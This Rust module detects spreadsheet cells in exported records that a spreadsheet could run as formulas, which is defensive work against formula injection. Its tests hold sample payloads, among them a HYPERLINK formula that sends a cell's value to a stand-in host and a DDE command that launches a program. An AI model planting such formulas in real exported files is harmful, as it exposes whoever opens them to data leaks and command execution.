//! Cells that a spreadsheet may run as a formula. A data package gives them back byte for byte, so whoever makes or takes one is told.

use super::csv_guard::guarded;
use domain::intake::called;
use domain::row::ColumnName;
use domain::{Dataset, Row, Table};

/// A cell of the records that begins like a formula.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormulaCell {
    /// Of which table.
    pub table: Table,
    /// What people call the record.
    pub record: String,
    /// The column.
    pub column: ColumnName,
    /// What stands in it.
    pub text: String,
}

/// Whether a spreadsheet may take a cell for a formula and run it. A telephone number comes to a number at worst.
pub fn looks_like_a_formula(cell: &str) -> bool {
    let only_a_number = || cell.chars().all(|c| c.is_ascii_digit() || matches!(c, '+' | '-' | '(' | ')' | '.' | ' ' | '\u{a0}'));
    guarded(cell) != cell && !only_a_number()
}

/// The columns of a row that look like formulas, with what stands in them.
pub fn in_row(row: &Row) -> impl Iterator<Item = (&ColumnName, &str)> {
    row.cells().filter(|(_, text)| looks_like_a_formula(text))
}

/// Every cell of the records that looks like a formula, table by table.
pub fn in_records(records: &Dataset) -> Vec<FormulaCell> {
    let mut found = Vec::new();
    for table in Table::ALL {
        records.for_each_row(*table, &mut |_, row| {
            for (column, text) in in_row(&row) {
                let record = called(records, *table, &row);
                found.push(FormulaCell { table: *table, record, column: column.clone(), text: text.to_owned() });
            }
        });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_run_is_found_and_a_telephone_number_is_not() {
        for cell in ["=HYPERLINK(\"https://x/?\"&B2;\"details\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+A1", "\t=1", "＝1", " =A1"] {
            assert!(looks_like_a_formula(cell), "{cell}");
        }
        for cell in ["", "Amina", "+44 7700 900123", "+44(0)20-7946", "-12", "a=b", "2026-01-01"] {
            assert!(!looks_like_a_formula(cell), "{cell}");
        }
    }

    #[test]
    fn each_cell_is_named_by_its_record_and_column() {
        let mut records = Dataset::default();
        let mut row = Row::default();
        row.push("id", "p1".to_owned());
        row.push("name", "=1+1".to_owned());
        row.push("telephone", "+44 7700 900123".to_owned());
        records.put_row(Table::People, &row).unwrap();
        let found = in_records(&records);
        let named: Vec<_> = found.iter().map(|cell| (cell.table, cell.record.as_str(), cell.column.as_ref(), cell.text.as_str())).collect();
        assert_eq!(named, [(Table::People, "=1+1", "name", "=1+1")]);
    }
}
